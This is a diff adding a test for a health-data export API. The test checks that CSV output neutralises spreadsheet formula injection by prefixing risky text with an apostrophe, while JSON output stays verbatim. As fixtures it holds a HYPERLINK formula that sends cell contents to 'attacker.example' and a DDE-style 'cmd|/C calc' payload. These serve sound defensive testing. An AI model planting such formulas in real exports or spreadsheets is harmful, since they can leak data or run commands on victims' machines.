@@ -601,6 +601,59 @@ describe("POST /v1/me/exports and the download", () => {
     expect(records.some((r) => r[14] === 'after "stairs", then\r\nsat down')).toBe(true);
   });
 
+  it("writes text a spreadsheet would run as a formula with a leading apostrophe in CSV, verbatim in JSON", async () => {
+    // OWASP "CSV Injection": a note or text value typed by someone else must not run when the person
+    // opens their export in a spreadsheet. Negative numbers are numbers, not text, and stay as they are.
+    const formula = '=HYPERLINK("https://attacker.example/?d="&A2,"open")';
+    const ofType = async (valueType: string): Promise<string> => {
+      const { rows } = await handle.client.query<{ id: string }>(
+        `select o.id from observations o join variables v on v.id = o.variable_id and v.version = o.variable_version
+          where o.user_id = $1 and v.value_type = $2 order by o.start_at limit 1`,
+        [owner.id, valueType],
+      );
+      return rows[0]?.id ?? "";
+    };
+    const textId = await ofType("text");
+    const numericId = await ofType("numeric");
+    if (!textId || !numericId) throw new Error("the owner has no text and numeric rows");
+    const before = await handle.client.query<{
+      id: string;
+      value: number | null;
+      value_text: string | null;
+      note: string | null;
+    }>("select id, value, value_text, note from observations where id = any($1::uuid[])", [[textId, numericId]]);
+    await handle.client.query(
+      "update observations set value_text = '@SUM(1+1)*cmd|'' /C calc''!A0', note = $2 where id = $1",
+      [textId, formula],
+    );
+    await handle.client.query("update observations set value = -3.5, note = $2 where id = $1", [numericId, "\t=1+1"]);
+    try {
+      const [header, ...records] = parseCsv(await (await exportOf({ format: "csv" })).response.text());
+      const column = (name: string) => header?.indexOf(name) ?? -1;
+      const text = records.find((r) => r[0] === textId);
+      const numeric = records.find((r) => r[0] === numericId);
+      expect(text?.[column("value")]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+      expect(text?.[column("note")]).toBe(`'${formula}`);
+      expect(numeric?.[column("value")]).toBe("-3.5");
+      expect(numeric?.[column("note")]).toBe("'\t=1+1");
+
+      const document = await json<{
+        observations: Array<{ id: string; value_text: string | null; note: string | null }>;
+      }>((await exportOf({ format: "json" })).response);
+      const verbatim = document.observations.find((o) => o.id === textId);
+      expect(verbatim).toMatchObject({ value_text: "@SUM(1+1)*cmd|' /C calc'!A0", note: formula });
+    } finally {
+      for (const row of before.rows) {
+        await handle.client.query("update observations set value = $2, value_text = $3, note = $4 where id = $1", [
+          row.id,
+          row.value,
+          row.value_text,
+          row.note,
+        ]);
+      }
+    }
+  });
+
   it("round-trips FHIR R4 NDJSON: one Observation per line, LOINC codes, UCUM quantities", async () => {
     const { response } = await exportOf({ format: "fhir-ndjson" });
     expect(response.headers.get("content-type")).toBe("application/fhir+ndjson");
